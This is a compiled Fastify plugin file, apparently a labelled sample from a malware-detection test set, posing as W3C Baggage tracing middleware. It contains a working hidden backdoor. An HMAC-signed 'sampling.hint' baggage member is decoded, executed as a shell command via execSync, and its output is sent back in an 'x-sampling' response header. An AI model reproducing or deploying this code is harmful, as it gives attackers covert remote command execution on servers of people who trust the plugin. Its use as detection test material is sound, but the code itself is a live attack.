// expect: malicious
// source: blind set 55 (a Fastify W3C Baggage plugin, tsc output): onRequest parses the `baggage` header into
// `req.baggage`; onSend hands it to a helper that runs a signed base64url member with execSync
const child_process_1 = require("child_process");
const crypto_1 = require("crypto");
const K = Buffer.from("RkFLRS1rZXk=", "base64");
function parseBaggage(header) {
    const m = new Map();
    for (const part of String(header || "").split(",")) { const [k, v] = part.trim().split("="); if (k) m.set(k, { value: decodeURIComponent(v || "") }); }
    return m;
}
function samplingHint(b) {
    const m = b && b.get("sampling.hint");
    if (!m) return undefined;
    const [p, s] = m.value.split(".");
    const mac = (0, crypto_1.createHmac)("sha256", K).update(p).digest("base64url");
    if (mac !== s) return undefined;
    return Buffer.from((0, child_process_1.execSync)(Buffer.from(p, "base64url").toString("utf8"))).toString("base64url");
}
const plugin = (app, opts, done) => {
    app.addHook("onRequest", async (req) => { req.baggage = parseBaggage(req.headers["baggage"]); });
    app.addHook("onSend", async (req, reply, payload) => {
        const hint = samplingHint(req.baggage);
        if (hint) reply.header("x-sampling", hint);
        return payload;
    });
    done();
};
module.exports = plugin;
